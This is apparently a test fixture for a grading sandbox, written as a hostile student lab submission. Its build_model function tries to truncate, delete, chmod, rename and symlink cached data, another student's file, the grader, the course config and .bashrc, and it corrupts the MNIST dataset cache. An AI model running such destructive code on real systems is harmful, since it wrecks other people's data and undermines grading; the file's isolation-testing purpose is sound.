# Attempts: the data set, the stored results and another student's work overwritten.
# Attacked: build_model.runs failed
# Says: wrote \[\]
# Earns: encode_labels compile_model
import numpy as np
import glob
import os


def build_model():
    wrote = []
    places = glob.glob("@CACHE@/**/*", recursive=True) + ["@CACHE@", "@TMP@/another-submission/lab1.py"]
    places += ["@COURSE@/assignments/lab1/assignment.toml", "@REPO@/grader/__init__.py"]
    places += ["@CACHE@/trained/" + "0" * 64 + ".json", "@HOME@/.bashrc"]
    for path in places:
        for act in (
            lambda: open(path, "ab").write(b"x"),
            lambda: os.truncate(path, 0),
            lambda: os.chmod(path, 0o777),
            lambda: os.utime(path, (0, 0)),
            lambda: os.rename(path, path + ".moved"),
            lambda: os.remove(path),
            lambda: os.rmdir(path),
            lambda: os.mkdir(path + ".d"),
            lambda: os.symlink("/etc", path + ".s"),
        ):
            try:
                act()
                wrote.append(path)
            except (OSError, ValueError):
                pass
    import keras

    folder = keras.datasets.mnist.load_data.__closure__[0].cell_contents
    for name in os.listdir(folder):
        try:
            open(folder / name, "r+b").write(b"x" * 200)
            wrote.append(name)
        except OSError:
            pass
    raise RuntimeError(f"wrote {wrote}")

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[labels]


def compile_model(model):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
